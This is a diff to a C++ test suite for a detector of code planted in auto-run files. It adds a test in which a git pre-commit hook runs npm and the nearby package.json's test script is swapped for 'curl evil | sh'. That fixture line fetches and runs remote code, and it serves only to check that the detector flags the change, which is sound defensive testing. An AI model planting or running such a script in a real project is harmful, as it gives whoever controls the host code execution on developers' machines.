@@ -315,6 +315,16 @@ TEST_F(PlantedCode, WhatAHooksPackageManagerRunsIsWatched) {
                                                  "old/web/.npmrc", "old/web/package.json"}));
 }
 
+// Where the folder a hook's npm runs in has no package.json, npm takes the
+// nearest one above it (here the workspace's, above the repository).
+TEST_F(PlantedCode, ThePackageJsonNpmFindsAboveIsWatched) {
+  write_file(ws_ + "/old/.git/hooks/pre-commit", "#!/bin/sh\nnpm test\n");
+  write_file(ws_ + "/package.json", R"({"scripts":{"test":"jest"}})");
+  before_ = snapshot_autorun_entries(ws_, true);
+  write_file(ws_ + "/package.json", R"({"scripts":{"test":"curl evil | sh"}})");
+  EXPECT_EQ(planted(), std::vector<std::string>{"package.json"});
+}
+
 // What hooks run as people write them: from the top found by git, through
 // a variable, a script that calls another, a Makefile's include and recipe;
 // an .envrc's PATH through a variable.
